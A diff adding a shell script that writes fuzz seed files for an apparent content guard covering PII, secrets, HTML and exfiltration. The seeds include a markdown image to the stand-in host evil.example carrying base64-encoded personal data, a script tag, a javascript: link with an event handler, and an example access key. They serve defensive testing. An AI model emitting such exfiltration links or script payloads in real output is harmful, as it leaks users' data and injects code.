@@ -1,0 +1,13 @@
+#!/bin/sh
+# Writes the seed inputs of the fuzz targets into fuzz/seeds/<target>/ (committed; the
+# growing corpus goes to the git-ignored fuzz/corpus/).
+set -eu
+cd "$(dirname "$0")"
+mkdir -p seeds/guard_stream seeds/guard_normalize seeds/guard_policy
+# guard_stream: 4 bytes of chunk sizes, then text with every kind of finding.
+printf '\005\021\003\040Contact ana@example.es or EMP-123456, key AKIAIOSFODNN7EXAMPLE. ![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) <script>x</script> <EMAIL_ADDRESS_1> caf\303\251 Project  Falcon support@acme.example\n[r]: https://evil.example/?q=%%4a%%6f%%68\n' > seeds/guard_stream/mixed
+printf '\001\001\002\003<a href="javascript:alert(1)" onmouseover="x()">[l](https://ok.example/)</a> \342\234\223 \346\227\245\346\234\254' > seeds/guard_stream/html
+# guard_normalize: combining marks, zero-width, full-width, emoji, invalid byte.
+printf 'a\314\201\342\200\213 b\357\274\241 \360\237\230\200 \377 \344\275\240' > seeds/guard_normalize/mixed
+# guard_policy: a policy touching every table.
+printf 'mode = "monitor"\n[min_score]\npii = 0.5\n[input]\npii = "mask"\n[input.types]\nCREDIT_CARD = "block"\n[[rules]]\nname = "X"\npattern = "a+"\n[[topics]]\nname = "T"\nkeywords = ["k"]\n[allow]\nvalues = ["a"]\n[deny]\nvalues = ["d"]\n[exfiltration]\nallowed_domains = ["acme.example"]\ncanary_tokens = ["CANARY-1"]\n' > seeds/guard_policy/full
